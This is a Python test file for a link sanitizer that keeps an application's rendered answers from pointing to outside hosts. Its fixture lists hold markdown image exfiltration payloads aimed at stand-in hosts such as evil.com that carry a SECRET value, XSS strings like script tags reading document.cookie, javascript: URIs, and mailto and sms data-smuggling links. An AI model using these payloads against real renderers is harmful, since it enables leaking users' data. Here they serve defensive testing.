"""No rendering of a cleaned answer leads to another host: judged by independent renderers (S4)."""

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from rendering import harms

from app.security.guard.links import Links
from app.security.guard.outgoing import Outgoing
from app.security.guard.stored_text import KeptTexts
from app.security.redaction.redactor import Redactor

LINKS = Links(frozenset({"northwind.example"}))
MARKUP = ["[", "]", "(", ")", "](", "]:", "]: ", "![", "!", "<", ">", "</", "<!--", "-->", "<?", "<![CDATA[", "\\", "`", "```\n"]
MARKUP += [
    "~~~\n",
    "\n",
    "\n\n",
    " ",
    "    ",
    "\t",
    "> ",
    "- ",
    "1. ",
    "* ",
    "_",
    "*",
    "**",
    "~~",
    "|",
    "|-|\n",
    "#",
    "?",
    "=",
    ":",
]
MARKUP += [".", ",", ";", '"', "'", "{", "}", "$", "^", "%", "@", "&", "&#58;", "&colon;", "&lt;", "&#x2f;", "&sol;", "&Tab;"]
ADDRESSES = ["//", "/", "\\/", "https://", "http:", "HTTPS:", "ftp://", "www.", "mailto:", "xmpp:", "sms:+1", "tel:+1555"]
ADDRESSES += ["javascript:", "data:text/html,", "evil.com", "evil.com/x?d=S", "evil\u3002com", "16843009", "northwind.example"]
ADDRESSES += ["northwind.example/a", "https://northwind.example", "https://northwind.example/h", "SECRET@evil.com", "//evil.com"]
HTML = ["script", "img src=x onerror=alert(1)", "svg/onload=", "a href=", "b", "<b>", "</b>", "<scr", "ipt>", "style=", "class="]
WHOLE = [
    "[a]",
    "[a]: ",
    "[xx]",
    "[ok](/a)",
    '[k](https://northwind.example/k "t")',
    "![i](/l.png)",
    "<https://northwind.example/>",
]
HIDDEN = ["\u200b", "\u202e", "\x00", "\x0c", "\x0b", "\r", "\xa0", "\u3002", "\u00e9", "a", "x y"]
NASTY = st.lists(st.sampled_from([*MARKUP, *ADDRESSES, *HTML, *WHOLE, *HIDDEN]), max_size=14).map("".join)

FOUND_OUTSIDE = [
    "![a](//evil.com/x?d=SECRETDATA)",
    "<script>alert(document.cookie)</script>",
    "![a\\]]\n\n[a\\]]: //16843009/x?d=SECRET",
    "![a\\]]\n\n[a\\]]: //evil\u3002com/x?d=SECRET",
    '<!-- a=" --><script>alert(1)</script> ">',
    "_www.evil.com/x?d=SECRET_",
    "[mail](mailto:SECRET@evil.com,help@northwind.example)",
    "[mail](mailto:help@northwind.example?bcc=SECRET@evil.com)",
    "<sms:+19005551234?body=SECRET>",
    "<any.scheme:SECRET>",
    "[x](intent:SECRET)",
    "northwind.example/a//https://evil.com/SECRET",
    "https://northwind.example),evil.com/SECRET",
    "![a][b]\n\n> [b]: javascript:alert(1)",
    "```\n<n onclick=alert(1) x>\n```",
    "`<n` <b onclick=alert(1)>",
    "```\nx\n\n```\n> ![a](\n> //16843009/x?d=S)",
    "- x\n\n    > ![a](\n    > //16843009/x?d=S)",
    "> [a]:\n> //16843009/x?d=S\n\n![a]",
    "> - ![a](\n> //16843009/x?d=S)",
    "http://<@evil.com/x?d=SECRET",
    "ftp://<@https://",
    "//<@evil.com/SECRET",
    "//a<@evil.com/SECRET",
    "https://northwind.example<@evil.com/SECRET",
    "//northwind.example<@evil.com/SECRET",
    "secret.evil.\u0440\u0444/x",
    "\u043f\u0440\u0438\u043c\u0435\u0440.\u0440\u0444",
]
FOUND_IN_STREAMS = [
    *FOUND_OUTSIDE,
    "<\x0cimg src=x onerror=alert(1)>",
    "hi <\x0cscript>alert(1)<\x0c/script>",
    "see http:/\x0c/evil.com/x?d=SECRET ok",
    "![a]\x0c(//16843009/x?d=S)",
    "w" + "\u200b" * 140 + "ww.secret.evil.cc ok",
    "> ![a](\n> " + " " * 2_100 + "//16843009/x) ok",
    "secretdata.evil.cc",
]


@pytest.mark.parametrize("size", [1, 3, 10_000])
@pytest.mark.parametrize("text", FOUND_IN_STREAMS)
def test_no_page_that_shows_a_stream_leads_elsewhere_however_it_is_cut(text: str, size: int) -> None:
    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
    out = "".join(outgoing.feed(text[at : at + size]) for at in range(0, len(text), size)) + outgoing.end()
    assert harms(out) == []


@pytest.mark.parametrize("text", FOUND_OUTSIDE)
def test_no_page_that_shows_what_left_leads_elsewhere(text: str) -> None:
    assert harms(text), "or the judges see nothing"
    cleaned, _ = LINKS.clean(text)
    assert harms(cleaned) == []
    assert LINKS.clean(cleaned) == (cleaned, 0)


@settings(max_examples=300, deadline=None)
@given(NASTY)
@example("northwind.example^northwind.example~~")
@example("bwww.ba href=")
def test_whatever_is_written_what_leaves_is_harmless_and_stays_as_it_is(text: str) -> None:
    cleaned, _ = LINKS.clean(text)
    assert harms(cleaned, kept_code=True) == []
    assert LINKS.clean(cleaned) == (cleaned, 0)


@settings(max_examples=200, deadline=None)
@given(NASTY, st.integers(1, 9))
def test_however_a_stream_is_cut_what_leaves_is_harmless(text: str, size: int) -> None:
    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
    out = "".join(outgoing.feed(text[at : at + size]) for at in range(0, len(text), size)) + outgoing.end()
    assert harms(out, kept_code=True) == []


@settings(max_examples=100, deadline=None)
@given(NASTY, st.sampled_from(["[a](", "[a]: ", "<a", "x.", "[ ", "```\n<b"]), st.sampled_from([" ", "x", "/", "a.", "\n"]))
def test_a_form_that_is_too_long_to_wait_for_is_harmless_too(text: str, opened: str, filled: str) -> None:
    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
    whole = opened + filled * 2500 + text
    out = "".join(outgoing.feed(whole[at : at + 300]) for at in range(0, len(whole), 300)) + outgoing.end()
    assert harms(out, kept_code=True) == []


@example("&colon;northwind.example/a", 25)  # the cut took away what the link check had added
@settings(max_examples=100, deadline=None)
@given(NASTY, st.integers(20, 60))
def test_a_line_that_is_kept_is_one_line_that_fits_and_is_harmless(text: str, longest: int) -> None:
    kept = KeptTexts(Redactor(b"tests"), LINKS)
    line = kept.line(text, longest, tenant="acme")
    assert harms(line, kept_code=True) == []
    assert LINKS.clean(line) == (line, 0)
    assert len(line) <= longest
    assert not set(line) & set("\n\r\t\u202e\u2066\u2028\x00")
    assert kept.line(line, longest, tenant="acme") == line


@settings(max_examples=100, deadline=None)
@given(st.dictionaries(st.sampled_from(["a", "b"]), st.one_of(NASTY, st.lists(NASTY, max_size=2))))
def test_a_products_answer_leaves_unchanged_by_a_second_check(body: dict[str, object]) -> None:
    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
    out = outgoing.document(body)
    assert Outgoing(LINKS, {"foreign-link": "block"}).document(out) == out
    for value in out.values():
        for text in [value] if isinstance(value, str) else value:
            assert harms(text, kept_code=True) == []


PLAIN = [
    "Order NW-10001 (2 x Fjell 2 tent; $349.00) left at 10:30 on 2026-11-26, version 1.2.3, see [shipping-times].",
    "| Item | Price |\n|:-----|------:|\n| Tent | $3.50 |\n\n1. one\n2. two\n   - three\n\n> quoted\n\n---\n\n# Title",
    "a < b, x <= y, i << 2, 5 <3, <- and ->, $x^2 + y_1 \\leq \\frac{1}{2}$, 50 % & more",
    "Ask <@U123> or https://northwind.example/a <@U456>, i < j@k.",
    "\u0438 \u0442.\u0434., \u0442.\u043f./\u0434\u0440. \u0420\u0424 (\u0441\u0442.1/\u0441\u0442.2)",
    "R&D, AT&T &copy; &nbsp; \\(a\\), \\[b\\]",
    "We will write to ada@mail.example or <ada@mail.example>.",
    "```cpp\n#include <vector>\nfor (int i = 0; i<n; i++) { std::vector<int> v; v[i](3); }\n```\n",
    "```python\ndef first[T](x: list[T]) -> T:\n    return x[0] if a<b else {y[0]: lambda: 0}\n```\n",
    "Use `List<String>` or `re.sub(r'[^\\s](\\w+)', '', x)`, see app/links.py:33, README.md and C:\\Users\\ada.",
    "[ ] open\n[x] done\n[note]: see below\n",
    "\u6a19\u6e96\u914d\u9001\u306f3\u301c5\u55b6\u696d\u65e5\u3067\u3059\u3002[shipping-times]\u3078\u3002",
    '[our page](https://northwind.example/help?a=1#b "Help"), (https://northwind.example), **https://northwind.example/a**.',
    "![logo](/logo.png) [top](#top) [mail](mailto:help@northwind.example) [call](tel:+15550100)\n\n[1]: https://northwind.example/x\n",
    "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \u200f\u2067abc\u2069",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 soft\u00adhyphen",
]


@pytest.mark.parametrize("text", PLAIN)
def test_text_without_foreign_links_comes_out_as_it_went_in(text: str) -> None:
    assert LINKS.clean(text) == (text, 0)


@pytest.mark.parametrize(
    "form", ["[", "]", "<", "<a", '<a "', "[[]]", "](", "](/a", "\n[x]:", "[a](", "![](", "&#104;", "a_a.", "//a.b", "`a``"]
)
def test_no_form_costs_more_than_time_linear_in_the_text(form: str) -> None:
    """A million characters of each: quadratic time would be hours, and the test's limit of time ends it."""
    text = form * (300_000 // len(form))
    cleaned, removed = LINKS.clean(text)
    assert (cleaned == text) is (removed == 0)
    outgoing = Outgoing(LINKS, {"foreign-link": "block"})
    for _ in range(20_000 // len(form)):
        outgoing.feed(form)
    outgoing.end()
